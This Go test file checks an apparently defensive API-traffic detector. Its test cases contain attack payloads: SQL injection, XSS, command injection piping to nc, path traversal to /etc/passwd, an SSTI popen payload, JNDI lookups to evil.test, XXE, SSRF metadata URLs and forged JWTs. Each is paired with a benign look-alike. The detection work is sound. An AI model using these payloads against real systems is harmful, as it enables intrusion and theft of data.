package detect

import (
	"context"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/golang-jwt/jwt/v5"
	"github.com/google/go-cmp/cmp"
	"github.com/vigilsec/vigil"
)

var t0 = time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)

// ex builds an exchange: a request with optional JSON or other body, and a
// 200 response unless changed by opts.
func ex(method, rawURL string, opts ...func(*vigil.Exchange)) *vigil.Exchange {
	u, err := url.Parse(rawURL)
	if err != nil {
		panic(err)
	}
	x := &vigil.Exchange{
		ID: "x1", Time: t0, Actor: vigil.Actor{Addr: "203.0.113.9"},
		Request:  vigil.Request{Method: method, URL: u, Header: http.Header{}},
		Response: &vigil.Response{Status: 200, Header: http.Header{"Content-Type": {"application/json"}}, Body: []byte(`{"ok":true}`)},
	}
	for _, o := range opts {
		o(x)
	}
	return x
}

func body(ct, b string) func(*vigil.Exchange) {
	return func(x *vigil.Exchange) {
		x.Request.Header.Set("Content-Type", ct)
		x.Request.Body = []byte(b)
		x.Request.BodySize = int64(len(b))
	}
}

func hdr(k, v string) func(*vigil.Exchange) {
	return func(x *vigil.Exchange) { x.Request.Header.Set(k, v) }
}

func resp(status int, b string, kv ...string) func(*vigil.Exchange) {
	return func(x *vigil.Exchange) {
		x.Response.Status = status
		x.Response.Body = []byte(b)
		for i := 0; i+1 < len(kv); i += 2 {
			x.Response.Header.Set(kv[i], kv[i+1])
		}
	}
}

type detCase struct {
	name string
	x    *vigil.Exchange
	want string // "" = no finding; otherwise a substring of the first evidence's Why
}

func runCases(t *testing.T, a vigil.Analyzer, id string, cases []detCase) {
	t.Helper()
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			got, err := a.Analyze(context.Background(), tc.x)
			if err != nil {
				t.Fatalf("Analyze: %v", err)
			}
			if tc.want == "" {
				if len(got) != 0 {
					t.Fatalf("want no finding, got %v: %+v", got[0], got[0].Evidence)
				}
				return
			}
			if len(got) == 0 {
				t.Fatalf("want a finding with %q, got none", tc.want)
			}
			f := got[0]
			if f.Detector != id || f.ExchangeID != "x1" || f.Actor.Addr != "203.0.113.9" || f.Area != vigil.AreaChained {
				t.Errorf("finding fields: %+v", f)
			}
			var whys []string
			for _, g := range got {
				for _, e := range g.Evidence {
					whys = append(whys, e.Why)
				}
			}
			if !strings.Contains(strings.Join(whys, "|"), tc.want) {
				t.Errorf("evidence %q does not mention %q", whys, tc.want)
			}
		})
	}
}

func TestSQLi(t *testing.T) {
	runCases(t, NewSQLi(), "detect.injection.sqli", []detCase{
		{"tautology in query", ex("GET", "https://a.test/s?q=%27+OR+%271%27%3D%271"), "fingerprint"},
		{"benign O'Reilly", ex("GET", "https://a.test/s?q=O%27Reilly"), ""},
		{"union in JSON at depth", ex("POST", "https://a.test/o", body("application/json", `{"a":{"b":[{"c":"1 UNION SELECT password FROM users--"}]}}`)), "fingerprint"},
		{"benign select chair in JSON", ex("POST", "https://a.test/o", body("application/json", `{"a":{"b":[{"c":"select chair"}]}}`)), ""},
		{"double-encoded", ex("GET", "https://a.test/s?c=1%2527%2BOR%2B1%253D1--"), "fingerprint"},
		{"benign 1=1 tips", ex("GET", "https://a.test/s?title=1%3D1+tips"), ""},
		{"benign boolean search", ex("GET", "https://a.test/s?q=%28red+or+blue%29+and+shirt"), ""},
		{"numeric tautology", ex("GET", "https://a.test/s?id=1+AND+1%3D1"), "fingerprint"},
		{"unicode-escaped quote", ex("POST", "https://a.test/o", body("application/json", `{"name":"admin\u0027--"}`)), "fingerprint"},
		{"benign drop-leaf table", ex("POST", "https://a.test/o", body("application/x-www-form-urlencoded", "q=drop-leaf+table")), ""},
		{"header", ex("GET", "https://a.test/", hdr("X-Forwarded-For", "1' AND SLEEP(5)--")), "fingerprint"},
		{"authorization is never walked", ex("GET", "https://a.test/", hdr("Authorization", "Basic ' OR 1=1--")), ""},
	})
}

func TestXSS(t *testing.T) {
	runCases(t, NewXSS(), "detect.injection.xss", []detCase{
		{"img onerror", ex("POST", "https://a.test/r", body("application/json", `{"comment":"<img src=x onerror=alert(1)>"}`)), "libinjection"},
		{"benign bold", ex("POST", "https://a.test/r", body("application/json", `{"comment":"<b>great</b> product"}`)), ""},
		{"script URL", ex("GET", "https://a.test/p?next=javascript%3Aalert(1)"), "script URL"},
		{"benign https URL", ex("GET", "https://a.test/p?next=https%3A%2F%2Fshop.test%2F"), ""},
		{"attribute breakout", ex("GET", "https://a.test/p?name=%22+onmouseover%3D%22alert(1)"), "libinjection"},
		{"benign quotes", ex("GET", "https://a.test/p?name=10%22+pizza+%3D+great"), ""},
		{"referer parameter", ex("GET", "https://a.test/", hdr("Referer", "https://x.test/?q=<script>alert(1)</script>")), "libinjection"},
		{"benign a<b", ex("GET", "https://a.test/p?expr=a%3Cb+and+c%3Ed"), ""},
	})
}

func TestOther(t *testing.T) {
	runCases(t, NewOther(), "detect.injection.other", []detCase{
		{"cmd separator", ex("GET", "https://a.test/ping?host=1.1.1.1%3B+cat+%2Fetc%2Fpasswd"), techCmd},
		{"benign cat food", ex("GET", "https://a.test/s?q=tom+%26+jerry%3B+cat+food"), ""},
		{"cmd substitution", ex("POST", "https://a.test/r", body("application/json", `{"name":"$(whoami)"}`)), techCmd},
		{"benign markdown code", ex("POST", "https://a.test/r", body("application/json", "{\"doc\":\"Run `ls -la` in the terminal, then open the file you need\"}")), ""},
		{"pipe nc", ex("GET", "https://a.test/x?f=a+%7C+nc+10.0.0.1+4444"), techCmd},
		{"traversal", ex("GET", "https://a.test/f?file=..%2F..%2F..%2Fetc%2Fpasswd"), techTraversal},
		{"encoded traversal", ex("GET", "https://a.test/f?file=..%252f..%252fapp.ini"), techTraversal},
		{"overlong slash", ex("GET", "https://a.test/f?file=..%c0%af..%c0%afboot.ini"), techTraversal},
		{"windows", ex("GET", "https://a.test/f?file=c%3A%5Cwindows%5Cwin.ini"), techTraversal},
		{"benign relative doc link", ex("POST", "https://a.test/d", body("application/json", `{"body":"See ../README.md","link":"../guide/intro.md"}`)), ""},
		{"benign config path in prose", ex("POST", "https://a.test/d", body("application/json", `{"body":"Edit /etc/passwd with vipw only"}`)), ""},
		{"multipart file name", ex("POST", "https://a.test/u", body("multipart/form-data; boundary=XX", "--XX\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../x.php\"\r\n\r\nhi\r\n--XX--\r\n")), techTraversal},
		{"raw .. segment", ex("GET", "https://a.test/static/../../etc/hosts"), techTraversal},
		{"ssti", ex("GET", "https://a.test/p?name=%7B%7B7*7%7D%7D"), techSSTI},
		{"benign mustache", ex("POST", "https://a.test/t", body("application/json", `{"template":"Hello {{name}}, total ${price}"}`)), ""},
		{"benign math", ex("POST", "https://a.test/t", body("application/json", `{"comment":"7*7 = 49"}`)), ""},
		{"ssti globals", ex("POST", "https://a.test/t", body("application/json", `{"t":"{{ cycler.__init__.__globals__.os.popen('id').read() }}"}`)), techSSTI},
		{"jndi", ex("GET", "https://a.test/", hdr("User-Agent", "${jndi:ldap://evil.test/a}")), techJNDI},
		{"jndi obfuscated", ex("GET", "https://a.test/", hdr("X-Api-Version", "${${lower:j}${::-n}di:rmi://evil.test/a}")), "obfuscated"},
		{"benign dollar brace", ex("GET", "https://a.test/", hdr("X-Api-Version", "${version}")), ""},
		{"nosql login", ex("POST", "https://a.test/login", body("application/json", `{"email":"a@b.c","password":{"$ne":null}}`)), techNoSQL},
		{"nosql query form", ex("GET", "https://a.test/u?username%5B%24ne%5D=x"), techNoSQL},
		{"nosql where", ex("POST", "https://a.test/q", body("application/json", `{"filter":{"$where":"1"}}`)), "runs code"},
		{"benign strapi filter", ex("GET", "https://a.test/p?filters%5Bprice%5D%5B%24gt%5D=10"), ""},
		{"benign json schema", ex("POST", "https://a.test/s", body("application/json", `{"$schema":"https://json-schema.org/draft/2020-12/schema","$ref":"#/x"}`)), ""},
		{"xxe", ex("POST", "https://a.test/x", body("application/xml", `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>`)), techXXE},
		{"benign xml doctype", ex("POST", "https://a.test/x", body("application/xml", `<?xml version="1.0"?><!DOCTYPE note><note>hi</note>`)), ""},
	})
}

func TestSSRF(t *testing.T) {
	j := func(v string) func(*vigil.Exchange) {
		return body("application/json", `{"url":"`+v+`"}`)
	}
	runCases(t, NewSSRF(), "detect.ssrf", []detCase{
		{"metadata", ex("POST", "https://a.test/i", j("http://169.254.169.254/latest/meta-data/")), "metadata"},
		{"gcp name", ex("POST", "https://a.test/i", j("http://metadata.google.internal/")), "metadata"},
		{"decimal", ex("POST", "https://a.test/i", j("http://2130706433/")), "decimal"},
		{"octal", ex("POST", "https://a.test/i", j("http://0177.0.0.1/")), "octal"},
		{"hex", ex("POST", "https://a.test/i", j("http://0x7f000001/")), "hex"},
		{"short", ex("POST", "https://a.test/i", j("http://127.1/")), "short"},
		{"zero", ex("POST", "https://a.test/i", j("http://0:8080/")), "unspecified"},
		{"mapped", ex("POST", "https://a.test/i", j("http://[::ffff:127.0.0.1]/")), "IPv4-mapped"},
		{"userinfo", ex("POST", "https://a.test/i", j("http://good.com@10.0.0.1/")), "userinfo"},
		{"gopher", ex("POST", "https://a.test/i", j("gopher://x:70/_a")), "gopher"},
		{"ula", ex("POST", "https://a.test/i", j("http://[fd12::1]/")), "private"},
		{"cgnat", ex("POST", "https://a.test/i", j("http://100.64.0.1/")), "carrier-grade"},
		{"by value in other param", ex("GET", "https://a.test/p?q=http%3A%2F%2F127.0.0.1%3A8080%2F"), "loopback"},
		{"bare host by name", ex("GET", "https://a.test/p?host=localhost%3A6379"), "loopback"},
		{"benign public", ex("POST", "https://a.test/i", j("https://example.com/image.png")), ""},
		{"benign webhook", ex("POST", "https://a.test/i", body("application/json", `{"webhook_url":"https://hooks.partner.example/x"}`)), ""},
		{"benign sentence", ex("POST", "https://a.test/c", body("application/json", `{"message":"it works on localhost and 127.0.0.1 but not here"}`)), ""},
		{"benign number", ex("GET", "https://a.test/p?id=2130706433"), ""},
		{"benign relative redirect", ex("GET", "https://a.test/p?redirect=%2Fdashboard"), ""},
		{"benign version under src", ex("GET", "https://a.test/p?src=web&count=10"), ""},
	})
}

func tok(t *testing.T, hdr map[string]any, claims jwt.MapClaims, sig string) string {
	t.Helper()
	return b64(hdr) + "." + b64(claims) + "." + sig
}

func TestJWT(t *testing.T) {
	claims := jwt.MapClaims{"sub": "7", "iat": t0.Unix(), "exp": t0.Add(time.Hour).Unix()}
	expired := jwt.MapClaims{"sub": "7", "exp": t0.Add(-time.Hour).Unix()}
	bearer := func(s string) func(*vigil.Exchange) { return hdr("Authorization", "Bearer "+s) }
	none := tok(t, map[string]any{"alg": "none"}, claims, "")
	hs := tok(t, map[string]any{"alg": "HS256"}, claims, fakeSig)
	runCases(t, NewJWT(JWTConfig{TrustedKeyHosts: []string{"auth.shop.test"}}), jwtID, []detCase{
		{"alg none accepted", ex("GET", "https://a.test/acct", bearer(none)), "alg \"none\" and the API answered 200"},
		{"alg none rejected", ex("GET", "https://a.test/acct", bearer(none), resp(401, "{}")), "alg \"none\""},
		{"benign signed", ex("GET", "https://a.test/acct", bearer(hs)), ""},
		{"expired accepted", ex("GET", "https://a.test/acct", bearer(tok(t, map[string]any{"alg": "HS256"}, expired, fakeSig))), "expired"},
		{"benign expired rejected", ex("GET", "https://a.test/acct", bearer(tok(t, map[string]any{"alg": "HS256"}, expired, fakeSig)), resp(401, "{}")), ""},
		{"kid traversal", ex("GET", "https://a.test/acct", bearer(tok(t, map[string]any{"alg": "HS256", "kid": "../../dev/null"}, claims, fakeSig))), "path"},
		{"kid sql", ex("GET", "https://a.test/acct", bearer(tok(t, map[string]any{"alg": "HS256", "kid": "x' UNION SELECT 'k"}, claims, fakeSig))), "SQL"},
		{"benign kid", ex("GET", "https://a.test/acct", bearer(tok(t, map[string]any{"alg": "RS256", "kid": "2026-03-key_1"}, claims, fakeSig))), ""},
		{"jku untrusted", ex("GET", "https://a.test/acct", bearer(tok(t, map[string]any{"alg": "RS256", "jku": "https://evil.test/j"}, claims, fakeSig))), "not a trusted"},
		{"benign jku trusted", ex("GET", "https://a.test/acct", bearer(tok(t, map[string]any{"alg": "RS256", "jku": "https://auth.shop.test/jwks"}, claims, fakeSig))), ""},
		{"embedded jwk", ex("GET", "https://a.test/acct", bearer(tok(t, map[string]any{"alg": "RS256", "jwk": map[string]any{"kty": "RSA"}}, claims, fakeSig))), "jwk"},
		{"opaque token", ex("GET", "https://a.test/acct", bearer("sk_live_abcdef")), ""},
		{"garbage token", ex("GET", "https://a.test/acct", bearer("a.b.c")), ""},
	})
	t.Run("forged signature with keys", func(t *testing.T) {
		key := []byte("right-key")
		good, err := jwt.NewWithClaims(jwt.SigningMethodHS256, claims).SignedString(key)
		if err != nil {
			t.Fatal(err)
		}
		bad, _ := jwt.NewWithClaims(jwt.SigningMethodHS256, claims).SignedString([]byte("wrong-key"))
		d := NewJWT(JWTConfig{Keyfunc: func(*jwt.Token) (any, error) { return key, nil }})
		for _, tc := range []struct {
			tok  string
			want int
		}{{good, 0}, {bad, 1}} {
			got, err := d.Analyze(context.Background(), ex("GET", "https://a.test/acct", bearer(tc.tok)))
			if err != nil || len(got) != tc.want {
				t.Errorf("got %d findings (%v), want %d", len(got), err, tc.want)
			}
		}
	})
	t.Run("evidence never holds the token", func(t *testing.T) {
		got, _ := NewJWT(JWTConfig{}).Analyze(context.Background(), ex("GET", "https://a.test/acct", bearer(none)))
		for _, f := range got {
			for _, e := range f.Evidence {
				if strings.Contains(e.Value, "eyJ") {
					t.Errorf("evidence %q holds the token", e.Value)
				}
			}
		}
	})
}

func TestVerbose(t *testing.T) {
	g := ex("GET", "https://a.test/o/1")
	runCases(t, NewVerbose(), "detect.misconfig.verbose", []detCase{
		{"go trace", ex("GET", "https://a.test/o/1", resp(500, "panic: boom\n\ngoroutine 7 [running]:\nmain.f()\n\t/app/main.go:12 +0x1d")), "Go"},
		{"java", ex("GET", "https://a.test/o/1", resp(500, "java.lang.IllegalStateException\n\tat com.x.Y.z(Y.java:12)")), "Java"},
		{"python", ex("GET", "https://a.test/o/1", resp(500, "Traceback (most recent call last):\n  File \"/a.py\", line 3")), "Python"},
		{"node", ex("GET", "https://a.test/o/1", resp(500, "Error: x\n    at Object.<anonymous> (/app/x.js:1:2)")), "Node"},
		{"php", ex("GET", "https://a.test/o/1", resp(500, "Fatal error: Uncaught Error in /var/www/a.php on line 3")), "PHP"},
		{"sqlite", ex("GET", "https://a.test/o/1", resp(500, `{"error":"near \"OR\": syntax error"}`)), "SQLite"},
		{"postgres", ex("GET", "https://a.test/o/1", resp(500, `ERROR: syntax error at or near "'"`)), "PostgreSQL"},
		{"oracle", ex("GET", "https://a.test/o/1", resp(500, `ORA-00933: SQL command not properly ended`)), "Oracle"},
		{"benign neutral 500", ex("GET", "https://a.test/o/1", resp(500, `{"error":{"code":"internal","message":"internal error"}}`)), ""},
		{"benign product text", ex("GET", "https://a.test/p/1", resp(200, `{"description":"An error-free kit: no syntax errors, no stack trace of dust. Go: fast."}`)), ""},
		{"cors reflected", ex("GET", "https://api.shop.test/me", hdr("Origin", "https://evil.test"), resp(200, "{}", "Access-Control-Allow-Origin", "https://evil.test", "Access-Control-Allow-Credentials", "true")), "reflected"},
		{"cors null", ex("GET", "https://api.shop.test/me", hdr("Origin", "null"), resp(200, "{}", "Access-Control-Allow-Origin", "null", "Access-Control-Allow-Credentials", "true")), "null"},
		{"benign cors same site", ex("GET", "https://api.shop.test/me", hdr("Origin", "https://app.shop.test"), resp(200, "{}", "Access-Control-Allow-Origin", "https://app.shop.test", "Access-Control-Allow-Credentials", "true")), ""},
		{"benign cors star without credentials", ex("GET", "https://api.shop.test/p", resp(200, "{}", "Access-Control-Allow-Origin", "*")), ""},
		{"no response", func() *vigil.Exchange { g.Response = nil; return g }(), ""},
	})
}

func TestSensitive(t *testing.T) {
	r := func(b string) *vigil.Exchange { return ex("GET", "https://a.test/u/me", resp(200, b)) }
	runCases(t, NewSensitive(), "detect.exposure.sensitive", []detCase{
		{"card", r(`{"card":{"number":"4111111111111111","expiry":"09/29"}}`), "card number"},
		{"card grouped under neutral key", r(`{"note":"4111 1111 1111 1111"}`), "card number"},
		{"benign masked card", r(`{"card":{"number":"**** **** **** 1111"}}`), ""},
		{"benign order id failing luhn", r(`{"order_number":"4111111111111112","card_id":"4111111111111111"}`), ""},
		{"bcrypt", r(`{"hash":"$2b$12$R9h/cIPz0gi.URNNX3kh2OPST9/PgBkqquzi.Ss7KIUgO2t0jWMUW"}`), "password hash"},
		{"benign etag hash", r(`{"hash":"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"}`), ""},
		{"password", r(`{"users":[{"email":"a@b.c","password":"hunter2!"}]}`), "password"},
		{"benign password metadata", r(`{"password_changed_at":"2026-01-01","has_password":true,"password_policy":"min 12"}`), ""},
		{"private key", r(`{"k":"-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----"}`), "private key"},
		{"aws", r(`{"AccessKeyId":"AKIAIOSFODNN7EXAMPLE","SecretAccessKey":"wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"}`), "cloud"},
		{"api secret", r(`{"client_secret":"cs_8f7a6b5c4d3e2f1a"}`), "secret"},
		{"benign login token", r(`{"token":"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI3In0.sig","expires_in":3600}`), ""},
		{"benign secret question", r(`{"secret_question":"first pet?","api_key_prefix":"pk_live"}`), ""},
		{"text body private key", ex("GET", "https://a.test/k", resp(200, "-----BEGIN RSA PRIVATE KEY-----\nabc\n-----END RSA PRIVATE KEY-----")), "private key"},
	})
	t.Run("evidence is masked", func(t *testing.T) {
		got, _ := NewSensitive().Analyze(context.Background(), r(`{"card":{"number":"4111111111111111"},"password":"hunter2!xyz"}`))
		if len(got) != 1 {
			t.Fatalf("got %d findings", len(got))
		}
		var vals []string
		for _, e := range got[0].Evidence {
			vals = append(vals, e.Value)
		}
		want := []string{"****1111", "[masked 11 chars]"}
		if d := cmp.Diff(want, vals); d != "" {
			t.Errorf("evidence values (-want +got):\n%s", d)
		}
	})
}

func TestLimits(t *testing.T) {
	big := ex("POST", "https://a.test/o", body("application/json", `{"a":1}`))
	big.Request.BodySize = 50 << 20
	upload := ex("POST", "https://a.test/u", body("application/octet-stream", "xx"))
	upload.Request.BodySize = 50 << 20
	runCases(t, NewLimits(LimitsConfig{}), "detect.resource.limits", []detCase{
		{"limit", ex("GET", "https://a.test/p?limit=100000"), "page size"},
		{"per_page", ex("GET", "https://a.test/p?per_page=5000"), "page size"},
		{"json body", ex("POST", "https://a.test/p", body("application/json", `{"pageSize":99999}`)), "page size"},
		{"benign limit 100", ex("GET", "https://a.test/p?limit=100&offset=900000"), ""},
		{"benign size word", ex("GET", "https://a.test/p?size=XL"), ""},
		{"benign body size key", ex("POST", "https://a.test/f", body("application/json", `{"size":204800,"count":5000}`)), ""},
		{"oversized json", big, "bytes is above"},
		{"benign big upload", upload, ""},
	})
}

func TestFindingShape(t *testing.T) {
	x := ex("GET", "https://API.shop.test:8443/api/v2/orders/8812/items/3?q=%27+OR+1%3D1--")
	x.Actor = vigil.Actor{Principal: "jwt:7"}
	got, err := NewSQLi().Analyze(context.Background(), x)
	if err != nil || len(got) != 1 {
		t.Fatalf("got %v, %v", got, err)
	}
	f := got[0]
	f.Evidence = nil
	want := vigil.Finding{
		Detector: "detect.injection.sqli", Category: vigil.API8Misconfiguration, Area: vigil.AreaChained,
		Severity: vigil.SeverityHigh, Confidence: 0.9, Time: t0, ExchangeID: "x1", Actor: vigil.Actor{Principal: "jwt:7"},
		Endpoint: vigil.Endpoint{Host: "api.shop.test", Method: "GET", Template: "/api/v2/orders/{id}/items/{id}"},
		Title:    "SQL injection attempt",
	}
	if d := cmp.Diff(want, f); d != "" {
		t.Errorf("finding (-want +got):\n%s", d)
	}
}
